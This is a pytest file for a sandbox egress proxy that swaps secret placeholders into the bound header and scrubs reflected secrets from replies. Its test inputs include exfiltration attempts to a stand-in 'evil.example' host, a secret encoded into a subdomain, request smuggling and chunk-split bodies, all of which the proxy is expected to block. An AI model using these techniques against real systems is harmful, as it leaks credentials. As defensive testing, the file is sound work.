"""Secrets at the egress proxy: where a placeholder becomes the value, where it must not, and what comes back."""

from __future__ import annotations

import base64
import gzip
import json
from collections.abc import Callable, Coroutine
from pathlib import Path
from typing import Any

import pytest
from egress_world import LOCALHOST, World, https_world, play, status, world

from lockstep.sandbox.contract import SecretBinding
from lockstep.sandbox.secrets import new_placeholder

VALUE = "sk-live-5e1f0c7d/9+b"
RULES = ("https://localhost:PORT GET,POST /v1", "http://127.0.0.1:PORT", "http://other.example:80")
HEAD = "POST /v1/x HTTP/1.1\r\nHost: localhost:PORT\r\n"
GET = "GET /v1 HTTP/1.1\r\nHost: localhost:PORT\r\nAuthorization: Bearer <KEY>\r\n\r\n"


def bound(env: str = "KEY", header: str = "Authorization", host: str = "localhost") -> tuple[SecretBinding, str, str]:
    """A secret bound to the service; port 0 stands for its port."""
    return SecretBinding(env=env, host=host, port=0, header=header), new_placeholder(), VALUE


def in_https(folder: Path, scene: Callable[[World], Coroutine[Any, Any, None]], *rules: str, **options: object) -> None:
    async def bounded() -> None:
        async with https_world(folder, *(rules or RULES), secrets=[bound()], **options) as here:
            await scene(here)
            kept = "".join(record.reason + record.url for record in here.proxy.records())
            assert VALUE not in kept

    play(bounded)


def chunked(*pieces: bytes) -> bytes:
    return b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces) + b"0\r\n\r\n"


# Swapped


@pytest.mark.parametrize("rule", ["https://localhost:PORT GET,POST /v1", "https://localhost:PORT"])
def test_the_value_goes_to_the_bound_host_in_the_named_header(tmp_path: Path, rule: str) -> None:
    async def scene(here: World) -> None:
        assert status(await here.inside(GET)) == 200
        basic = base64.b64encode(here.filled("me:<KEY>")).decode()
        assert status(await here.inside(f"{HEAD}authorization: Basic {basic}\r\nContent-Length: 0\r\n\r\n")) == 200
        bearer, with_basic = (sent.replace(b"Authorization", b"authorization") for sent in here.service.seen)
        assert f"authorization: Bearer {VALUE}\r\n".encode() in bearer
        assert b"authorization: Basic " + base64.b64encode(f"me:{VALUE}".encode()) in with_basic
        assert b"placeholder" not in bearer + with_basic
        assert [record.flag for record in here.proxy.records()] == ["", ""]

    in_https(tmp_path, scene, rule)


def test_a_secret_may_be_bound_to_a_plain_service_on_this_machine(tmp_path: Path) -> None:
    async def scene() -> None:
        async with world(tmp_path, "127.0.0.1:PORT", secrets=[bound(header="X-Key", host="127.0.0.1")]) as here:
            answer = await here.talk("GET http://127.0.0.1:PORT/ HTTP/1.1\r\nHost: x\r\nx-key: <KEY>\r\n\r\n")
            assert status(answer) == 200
            assert f"x-key: {VALUE}\r\n".encode() in here.service.seen[0]

    play(scene)


def test_the_value_of_the_call_is_the_one_that_is_sent(tmp_path: Path) -> None:
    async def scene(here: World) -> None:
        here.proxy.admit({}, {"KEY": "another-value"})
        assert status(await here.inside(GET)) == 200
        assert b"Bearer another-value\r\n" in here.service.seen[0]

    in_https(tmp_path, scene)


def test_a_tunnel_to_a_bound_host_is_looked_into_although_the_rule_opens_it_whole(tmp_path: Path) -> None:
    async def scene(here: World) -> None:
        await here.inside("GET /v1?key=<KEY> HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n")
        assert here.record().flag == "secret_misplaced"
        assert here.service.seen == []

    in_https(tmp_path, scene, "https://localhost:PORT")


# Misplaced


@pytest.mark.parametrize(
    "request_text",
    [
        "GET /v1?key=<KEY> HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n",
        "GET /v1/<KEY> HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n",
        "GET /v1?key=<PERCENT> HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n",
        "GET /v1?key=<BASE64> HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n",
        f"{HEAD}X-Key: <KEY>\r\nContent-Length: 0\r\n\r\n",
        f"{HEAD}Authorization2: <KEY>\r\nContent-Length: 0\r\n\r\n",
        f"{HEAD}X-Key: <BASE64>\r\nContent-Length: 0\r\n\r\n",
        f"{HEAD}Authorization: Bearer <BASE64>\r\nContent-Length: 0\r\n\r\n",
        f"{HEAD}Authorization: Bearer <KEY>\r\nCookie: k=<KEY>\r\nContent-Length: 0\r\n\r\n",
        f"{HEAD}<KEY>: x\r\nContent-Length: 0\r\n\r\n",
        f"{HEAD}Content-Length: 53\r\n\r\n<KEY>",
        f"{HEAD}Content-Length: 57\r\n\r\n" + '{"<KEY>"}',
        f"{HEAD}Authorization: Bearer <KEY>\r\nContent-Length: 53\r\n\r\n<KEY>",
        "GET /v1 HTTP/1.1\r\nHost: <KEY>\r\n\r\n",
    ],
)
def test_a_placeholder_anywhere_else_is_blocked_and_flagged_before_anything_leaves(
    tmp_path: Path, request_text: str
) -> None:
    async def scene(here: World) -> None:
        placeholder = here.placeholders["KEY"]
        text = request_text.replace("<PERCENT>", placeholder.replace("-", "%2d"))
        text = text.replace("<BASE64>", base64.b64encode(f"me:{placeholder}".encode()).decode())
        answer = await here.inside(text)
        assert status(answer) in (400, 403)
        if "Host: <KEY>" not in request_text:  # that one never gets as far
            assert status(answer) == 403
            assert here.record().flag == "secret_misplaced"
        assert here.record().allowed is False
        assert here.service.seen == []

    in_https(tmp_path, scene)


@pytest.mark.parametrize(
    "line",
    [
        "GET http://127.0.0.1:PORT/ HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer <KEY>\r\n\r\n",
        "GET http://other.example/ HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer <KEY>\r\n\r\n",
        "GET http://other.example/<KEY> HTTP/1.1\r\nHost: x\r\n\r\n",
        "GET http://evil.example/ HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer <KEY>\r\n\r\n",
        "GET http://<KEY>.evil.example/ HTTP/1.1\r\nHost: x\r\n\r\n",
        "POST http://127.0.0.1:PORT/ HTTP/1.1\r\nHost: x\r\nContent-Length: 53\r\n\r\n<KEY>",
        "CONNECT <KEY>.evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n",
        "GET https://localhost:1/ HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer <KEY>\r\n\r\n",
    ],
)
def test_a_placeholder_to_another_host_is_blocked_and_flagged(tmp_path: Path, line: str) -> None:
    async def scene(here: World) -> None:
        answer = await here.talk(line)
        assert status(answer) == 403
        assert here.record().flag == "secret_misplaced"
        assert here.service.seen == []

    in_https(tmp_path, scene)


@pytest.mark.parametrize("cut", [1, 20, 52])
def test_a_placeholder_cut_in_two_by_chunks_never_arrives_as_a_whole_request(tmp_path: Path, cut: int) -> None:
    async def scene(here: World) -> None:
        key = here.placeholders["KEY"].encode()
        body = chunked(b"before " + key[:cut], key[cut:] + b" after")
        request = here.filled(f"{HEAD}Transfer-Encoding: chunked\r\n\r\n") + body
        answer = await here.inside(request)
        assert status(answer) == 403
        assert here.record().flag == "secret_misplaced"
        await here.service.arrived.wait()
        assert all(seen.startswith(b"broken") for seen in here.service.seen)

    in_https(tmp_path, scene)


def test_a_request_that_no_rule_permits_carries_no_value(tmp_path: Path) -> None:
    async def scene(here: World) -> None:
        answer = await here.inside(GET.replace("/v1", "/v2"))
        assert status(answer) == 403
        assert here.record().flag == ""
        assert here.service.seen == []

    in_https(tmp_path, scene)


def test_another_secret_of_the_same_host_does_not_fit_into_this_header(tmp_path: Path) -> None:
    async def scene() -> None:
        secrets = [bound(), bound("OTHER", "X-Key")]
        async with https_world(tmp_path, *RULES, secrets=secrets) as here:
            answer = await here.inside(GET.replace("<KEY>", "<OTHER>"))
            assert status(answer) == 403
            assert here.record().flag == "secret_misplaced"

    play(scene)


# Smuggled and coaxed out


@pytest.mark.parametrize(
    "behind",
    [
        "GET /v1 HTTP/1.1\r\nHost: localhost:PORT\r\nX-Key: <KEY>\r\n\r\n",
        "0\r\n\r\nGET /v1?<KEY> HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n",
    ],
)
def test_a_second_request_behind_the_first_carries_nothing_out(tmp_path: Path, behind: str) -> None:
    async def scene(here: World) -> None:
        answer = await here.inside(GET + behind)
        assert answer.count(b"HTTP/1.1") == 1
        assert len(here.service.seen) == 1
        assert here.placeholders["KEY"].encode() not in here.service.seen[0]

    in_https(tmp_path, scene)


def test_a_server_that_knows_a_secret_is_not_asked_for_parts_or_compression(tmp_path: Path) -> None:
    async def scene(here: World) -> None:
        more = "Range: bytes=0-9\r\nIf-Range: x\r\nAccept-Encoding: gzip, br\r\n\r\n"
        assert status(await here.inside(GET.removesuffix("\r\n") + more)) == 200
        sent = here.service.seen[0].lower()
        assert b"range" not in sent
        assert b"accept-encoding: identity\r\n" in sent
        assert sent.count(b"accept-encoding") == 1

    in_https(tmp_path, scene)


# What comes back


@pytest.mark.parametrize("framing", ["length", "chunked", "close"])
def test_a_reflected_value_comes_back_as_the_placeholder(tmp_path: Path, framing: str) -> None:
    body = json.dumps({"you sent": f"Bearer {VALUE}", "again": VALUE}).encode()
    cut = body.index(VALUE.encode()) + 5
    head = f"HTTP/1.1 200 OK\r\nX-Echo: <{VALUE}>\r\nSet-Cookie: key={VALUE}\r\n".encode()
    reply = {
        "length": head + b"Content-Length: %d\r\n\r\n%s" % (len(body), body),
        "chunked": head
        + b"Transfer-Encoding: chunked\r\n\r\n"
        + chunked(body[:cut], body[cut : cut + 3], body[cut + 3 :]),
        "close": head + b"\r\n" + body,
    }[framing]

    async def scene(here: World) -> None:
        answer = await here.inside(GET)
        assert VALUE.encode() not in answer
        key = here.placeholders["KEY"]
        assert f"x-echo: <{key}>".encode() in answer.lower()
        assert answer.count(key.encode()) == 4
        assert status(answer) == 200
        assert b"content-length" not in answer.lower()

    in_https(tmp_path, scene, reply=reply)


def test_reflected_basic_credentials_come_back_as_they_were_written(tmp_path: Path) -> None:
    credentials = base64.b64encode(f"me:{VALUE}".encode())
    reply = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(credentials), credentials)

    async def scene(here: World) -> None:
        written = base64.b64encode(here.filled("me:<KEY>"))
        answer = await here.inside(
            here.filled(f"{HEAD}Content-Length: 0\r\nAuthorization: Basic ") + written + b"\r\n\r\n"
        )
        assert credentials not in answer
        assert written in answer

    in_https(tmp_path, scene, reply=reply)


def test_a_header_whose_name_is_the_value_is_left_out(tmp_path: Path) -> None:
    reply = f"HTTP/1.1 200 OK\r\nX-Sk: 1\r\n{VALUE.lower().replace('/', '')}: x\r\nContent-Length: 0\r\n\r\n".encode()

    async def scene() -> None:
        secret = (bound()[0], new_placeholder(), VALUE.replace("/", ""))
        async with https_world(tmp_path, *RULES, secrets=[secret], reply=reply) as here:
            answer = await here.inside(GET)
            assert b"x-sk: 1" in answer.lower()
            assert secret[2].encode() not in answer

    play(scene)


def test_a_compressed_reply_from_a_bound_host_is_refused(tmp_path: Path) -> None:
    body = gzip.compress(VALUE.encode())
    head = b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body)

    async def scene(here: World) -> None:
        answer = await here.inside(GET)
        assert status(answer) == 502
        assert b"compressed" in answer
        assert body not in answer

    in_https(tmp_path, scene, reply=head + body)


def test_a_reply_that_cannot_be_read_quotes_no_value(tmp_path: Path) -> None:
    async def scene(here: World) -> None:
        answer = await here.inside(GET)
        assert status(answer) == 502
        assert VALUE.encode() not in answer

    in_https(tmp_path, scene, reply=f"HTTP/1.1 200 OK\r\n{VALUE} x\r\n\r\n".encode())


def test_a_reflected_value_in_a_plain_reply_is_scrubbed_too(tmp_path: Path) -> None:
    reply = f"HTTP/1.1 401 No\r\nContent-Length: {len(VALUE)}\r\n\r\n{VALUE}".encode()

    async def scene() -> None:
        secrets = [bound(header="X-Key", host="localhost")]
        async with world(tmp_path, "localhost:PORT", names=LOCALHOST, secrets=secrets, reply=reply) as here:
            answer = await here.talk("GET http://localhost:PORT/ HTTP/1.1\r\nHost: x\r\nX-Key: <KEY>\r\n\r\n")
            assert status(answer) == 401
            assert VALUE.encode() not in answer
            assert here.placeholders["KEY"].encode() in answer

    play(scene)
